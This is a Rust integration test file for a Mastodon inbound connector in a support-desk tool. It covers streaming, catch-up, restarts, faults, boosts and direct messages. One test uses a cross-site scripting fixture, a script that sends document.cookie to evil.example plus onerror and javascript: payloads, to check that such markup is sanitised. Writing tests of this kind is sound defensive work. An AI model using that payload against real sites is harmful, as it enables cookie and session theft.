//! The inbound connector end to end: stand-in Mastodon → stream/catch-up →
//! real pipeline → real SQLite store.

mod common;

use common::*;
use earshot_core::Network;
use earshot_mastodon::standin::{account_json, Endpoint, Failure, Fault, StandIn};
use earshot_mastodon::CONNECTOR;
use serde_json::json;
use std::time::Duration;

const WITHIN: Duration = Duration::from_secs(10);

async fn connected(standin: &StandIn) {
    eventually(WITHIN, "the stream is open", || async {
        standin.open_streams() > 0
    })
    .await;
}

/// The body of the timeline entry of a stored post.
async fn stored_text(store: &earshot_store::Store, status_id: &str) -> Option<String> {
    let case = store
        .case_id_for_post(Network::Mastodon, status_id)
        .await
        .ok()??;
    let detail = store.get_case(case).await.ok()??;
    detail
        .timeline
        .into_iter()
        .find(|e| e.external_id.as_deref() == Some(status_id))
        .and_then(|e| e.body)
}

#[tokio::test]
async fn a_streamed_mention_becomes_a_case_and_advances_the_cursor() {
    let standin = StandIn::start().await.unwrap();
    let db = sqlite().await;
    let running = Running::start(&standin, &db.store);
    connected(&standin).await;

    let status = customer_status(
        &standin,
        "900",
        "dana@mastodon.online",
        &brand_mention_html(
            "my internet has been down since 8am &amp; the modem blinks red. Any outage?",
        ),
    );
    let status_id = status["id"].as_str().unwrap().to_string();
    let notification_id = standin.push_mention(status);

    eventually(WITHIN, "the mention opens a case", || async {
        db.store
            .case_id_for_post(Network::Mastodon, &status_id)
            .await
            .unwrap()
            .is_some()
    })
    .await;
    assert_eq!(
        stored_text(&db.store, &status_id).await.as_deref(),
        Some("@northwind my internet has been down since 8am & the modem blinks red. Any outage?")
    );
    eventually(WITHIN, "the cursor is the notification id", || async {
        db.store
            .connector_cursor(CONNECTOR)
            .await
            .unwrap()
            .as_deref()
            == Some(notification_id.as_str())
    })
    .await;
    let health = running.health();
    assert!(health.connected);
    assert!(health.events >= 1, "{health:?}");
    assert_eq!(stored_mentions(&db.store).await, 1);
    assert!(health.rate_limit_remaining.is_some(), "{health:?}");
    running.stop().await;
}

#[tokio::test]
async fn html_becomes_plain_text_and_hostile_markup_is_stored_as_text() {
    let standin = StandIn::start().await.unwrap();
    let db = sqlite().await;
    let running = Running::start(&standin, &db.store);
    connected(&standin).await;

    let hostile = customer_status(
        &standin,
        "901",
        "mallory@evil.example",
        &brand_mention_html(
            "router down<script>fetch('https://evil.example/?c='+document.cookie)</script><br>see &lt;img src=x onerror=alert(1)&gt; <a href=\"javascript:alert(1)\"><span class=\"invisible\">https://</span><span class=\"ellipsis\">status.example</span></a>",
        ),
    );
    let hostile_id = hostile["id"].as_str().unwrap().to_string();
    standin.push_mention(hostile);

    eventually(WITHIN, "the hostile post is stored", || async {
        stored_text(&db.store, &hostile_id).await.is_some()
    })
    .await;
    let text = stored_text(&db.store, &hostile_id).await.unwrap();
    assert_eq!(
        text,
        "@northwind router down\nsee <img src=x onerror=alert(1)> https://status.example"
    );
    assert!(
        !text.contains("<script") && !text.contains("fetch("),
        "{text}"
    );
    // The raw payload is kept as delivered, for the record.
    let case = db
        .store
        .case_id_for_post(Network::Mastodon, &hostile_id)
        .await
        .unwrap()
        .unwrap();
    let detail = db.store.get_case(case).await.unwrap().unwrap();
    let mention_id = detail.timeline.iter().find_map(|e| e.mention_id).unwrap();
    let raw = db.store.mention_payloads(&[mention_id]).await.unwrap();
    assert!(raw[0].1.contains("<script>"), "raw JSON kept");
    running.stop().await;
}

#[tokio::test]
async fn a_stalled_stream_reconnects_and_catches_up_without_gap_or_duplicate() {
    let standin = StandIn::start().await.unwrap();
    let db = sqlite().await;
    let running = Running::start(&standin, &db.store);
    connected(&standin).await;

    let mut ids = Vec::new();
    let mut push = |n: usize| {
        for i in 0..n {
            let s = customer_status(
                &standin,
                &format!("{}", 1000 + ids.len()),
                &format!("c{}@mastodon.online", ids.len()),
                &brand_mention_html(&format!("outage number {i}, internet down")),
            );
            ids.push(s["id"].as_str().unwrap().to_string());
            standin.push_mention(s);
        }
    };
    push(3);
    eventually(WITHIN, "3 live mentions stored", || async {
        stored_mentions(&db.store).await == 3
    })
    .await;

    // The stream goes silent: no events, no heartbeats. What arrives now
    // reaches only the notifications list (12: more than two pages of 5).
    let connects = standin.stream_connects();
    standin.set_fault(Fault::StallStreams);
    push(12);
    eventually(WITHIN, "reconnected after the stall", || async {
        standin.stream_connects() > connects
    })
    .await;
    eventually(WITHIN, "all 15 stored", || async {
        stored_mentions(&db.store).await == 15
    })
    .await;

    // Live again, one event delivered twice.
    connected(&standin).await;
    standin.set_fault(Fault::DuplicateEvents { events: 1 });
    push(2);
    eventually(WITHIN, "17 stored", || async {
        stored_mentions(&db.store).await == 17
    })
    .await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(stored_mentions(&db.store).await, 17, "no duplicate stored");
    for id in &ids {
        assert!(
            db.store
                .case_id_for_post(Network::Mastodon, id)
                .await
                .unwrap()
                .is_some(),
            "status {id} has its case"
        );
    }
    // Catch-up walked pages after the cursor, following the Link header.
    let pages = standin
        .requests()
        .into_iter()
        .filter(|r| r.starts_with("GET /api/v1/notifications") && r.contains("min_id="))
        .count();
    assert!(pages >= 3, "catch-up read {pages} pages");
    let health = running.health();
    assert!(health.reconnects >= 1 && health.errors >= 1, "{health:?}");
    running.stop().await;
}

#[tokio::test]
async fn the_cursor_survives_a_restart_and_nothing_is_read_twice() {
    let standin = StandIn::start().await.unwrap();
    // On PostgreSQL in CI, as a production desk runs.
    let db = postgres_or_sqlite().await;
    let first = Running::start(&standin, &db.store);
    connected(&standin).await;
    for i in 0..2 {
        standin.push_mention(customer_status(
            &standin,
            &format!("{}", 2000 + i),
            &format!("early{i}@mastodon.online"),
            &brand_mention_html("modem down"),
        ));
    }
    eventually(WITHIN, "2 stored", || async {
        stored_mentions(&db.store).await == 2
    })
    .await;
    eventually(WITHIN, "cursor saved", || async {
        db.store
            .connector_cursor(CONNECTOR)
            .await
            .unwrap()
            .is_some()
    })
    .await;
    first.stop().await;
    let cursor = db.store.connector_cursor(CONNECTOR).await.unwrap().unwrap();

    // While earshot is down, 7 more arrive, and a follow (which the
    // catch-up does not even ask for: `types[]=mention`).
    let mut last = String::new();
    for i in 0..7 {
        last = standin.push_mention(customer_status(
            &standin,
            &format!("{}", 2100 + i),
            &format!("late{i}@mastodon.online"),
            &brand_mention_html("still no internet"),
        ));
    }
    standin.push_notification(
        "follow",
        account_json("77", "fan@else.example", "Fan", "example.social"),
    );
    let before = standin.requests().len();
    let second = Running::start(&standin, &db.store);
    eventually(WITHIN, "9 stored", || async {
        stored_mentions(&db.store).await == 9
    })
    .await;
    eventually(WITHIN, "cursor at the newest mention", || async {
        db.store
            .connector_cursor(CONNECTOR)
            .await
            .unwrap()
            .as_deref()
            == Some(last.as_str())
    })
    .await;
    second.stop().await;
    let requests = standin.requests();
    let first_page = requests[before..]
        .iter()
        .find(|r| r.starts_with("GET /api/v1/notifications"))
        .unwrap();
    assert!(
        first_page.contains(&format!("min_id={cursor}")),
        "{first_page}"
    );
    assert_eq!(stored_mentions(&db.store).await, 9);
    db.finish().await;
}

#[tokio::test]
async fn faults_are_counted_and_survived() {
    let standin = StandIn::start().await.unwrap();
    let db = sqlite().await;
    // The stream refuses four times in four ways before it opens.
    for failure in [
        Failure::Unavailable,
        Failure::HtmlPage,
        Failure::TooManyRequests {
            reset_in: Duration::from_millis(300),
        },
        Failure::Unauthorized,
    ] {
        standin.set_fault(Fault::Http {
            on: Endpoint::Stream,
            times: 1,
            failure,
        });
    }
    // And the first catch-up page is cut off.
    standin.set_fault(Fault::Http {
        on: Endpoint::Notifications,
        times: 1,
        failure: Failure::Truncated,
    });
    let running = Running::start(&standin, &db.store);
    connected(&standin).await;
    eventually(WITHIN, "connected after the faults", || async {
        running.health().connected
    })
    .await;
    assert!(running.health().errors >= 5, "{:?}", running.health());

    // A malformed event: counted, skipped, and the mention is recovered by
    // the catch-up after the next reconnect.
    standin.set_fault(Fault::MalformedEvents { events: 1 });
    let lost = customer_status(
        &standin,
        "3000",
        "a@mastodon.online",
        &brand_mention_html("internet down"),
    );
    let lost_id = lost["id"].as_str().unwrap().to_string();
    standin.push_mention(lost);
    let errors = running.health().errors;
    eventually(WITHIN, "the bad event is counted", || async {
        running.health().errors > errors
    })
    .await;
    let ok = customer_status(
        &standin,
        "3001",
        "b@mastodon.online",
        &brand_mention_html("router down"),
    );
    let ok_id = ok["id"].as_str().unwrap().to_string();
    standin.push_mention(ok);
    eventually(WITHIN, "the good event is stored", || async {
        db.store
            .case_id_for_post(Network::Mastodon, &ok_id)
            .await
            .unwrap()
            .is_some()
    })
    .await;

    eventually(
        WITHIN,
        "the garbled one is read again from the list",
        || async {
            db.store
                .case_id_for_post(Network::Mastodon, &lost_id)
                .await
                .unwrap()
                .is_some()
        },
    )
    .await;

    // The stream drops and is opened again.
    let connects = standin.stream_connects();
    let reconnects = running.health().reconnects;
    standin.set_fault(Fault::DropStreams);
    eventually(WITHIN, "reconnected after the drop", || async {
        standin.stream_connects() > connects
    })
    .await;
    connected(&standin).await;

    // Unknown events and other notification types do not disturb it.
    standin.push_notification(
        "favourite",
        account_json("5", "x@y.example", "X", "example.social"),
    );
    let after = customer_status(
        &standin,
        "3002",
        "c@mastodon.online",
        &brand_mention_html("modem down again"),
    );
    let after_id = after["id"].as_str().unwrap().to_string();
    standin.push_mention(after);
    eventually(WITHIN, "stored after the drop", || async {
        db.store
            .case_id_for_post(Network::Mastodon, &after_id)
            .await
            .unwrap()
            .is_some()
    })
    .await;
    let health = running.health();
    assert!(
        health.connected && health.reconnects > reconnects,
        "{health:?}"
    );
    running.stop().await;
}

#[tokio::test]
async fn boosts_are_stored_without_a_case_and_direct_messages_are_stored() {
    let standin = StandIn::start().await.unwrap();
    let db = sqlite().await;
    let running = Running::start(&standin, &db.store);
    connected(&standin).await;
    let boosted = customer_status(
        &standin,
        "4000",
        "amy@else.example",
        &brand_mention_html("internet down for everyone?"),
    );
    let boost = json!({
        "id": standin.next_id(), "content": "", "visibility": "public", "spoiler_text": "",
        "account": account_json("4001", "ben@mastodon.online", "Ben", "example.social"),
        "mentions": [], "reblog": boosted,
    });
    let boost_id = boost["id"].as_str().unwrap().to_string();
    standin.push_mention(boost);
    let mut dm = customer_status(
        &standin,
        "4002",
        "dana@mastodon.online",
        &brand_mention_html("my account number is 123456, the router is down"),
    );
    dm["visibility"] = json!("direct");
    let dm_id = dm["id"].as_str().unwrap().to_string();
    standin.push_mention(dm);
    eventually(WITHIN, "both stored", || async {
        stored_mentions(&db.store).await == 2
    })
    .await;
    assert_eq!(
        db.store
            .case_id_for_post(Network::Mastodon, &boost_id)
            .await
            .unwrap(),
        None,
        "a boost opens no case"
    );
    assert!(db
        .store
        .case_id_for_post(Network::Mastodon, &dm_id)
        .await
        .unwrap()
        .is_some());
    running.stop().await;
}

/// Throughput figure (ignored in CI): mentions pushed on the stream at
/// 1,000/s for 2 s; prints how long after the last push everything was
/// stored. `cargo test -p earshot-mastodon --release --test inbound -- --ignored --nocapture`
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore]
async fn stream_throughput_at_a_thousand_mentions_a_second() {
    let standin = StandIn::start().await.unwrap();
    let db = sqlite().await;
    let running = Running::start(&standin, &db.store);
    connected(&standin).await;
    let total = 2000;
    let start = std::time::Instant::now();
    for batch in 0..(total / 100) {
        for i in 0..100 {
            let n = batch * 100 + i;
            standin.push_mention(customer_status(
                &standin,
                &format!("{}", 10_000 + n),
                &format!("c{n}@mastodon.online"),
                &brand_mention_html("my internet is down again, modem blinking"),
            ));
        }
        let due = Duration::from_millis(100 * (batch as u64 + 1));
        if let Some(wait) = due.checked_sub(start.elapsed()) {
            tokio::time::sleep(wait).await;
        }
    }
    let pushed = start.elapsed();
    eventually(Duration::from_secs(120), "all stored", || async {
        stored_mentions(&db.store).await == total as i64
    })
    .await;
    let done = start.elapsed();
    println!(
        "{total} mentions pushed in {pushed:?}; all stored {:?} after the last push ({:.0}/s overall)",
        done - pushed,
        total as f64 / done.as_secs_f64()
    );
    running.stop().await;
}
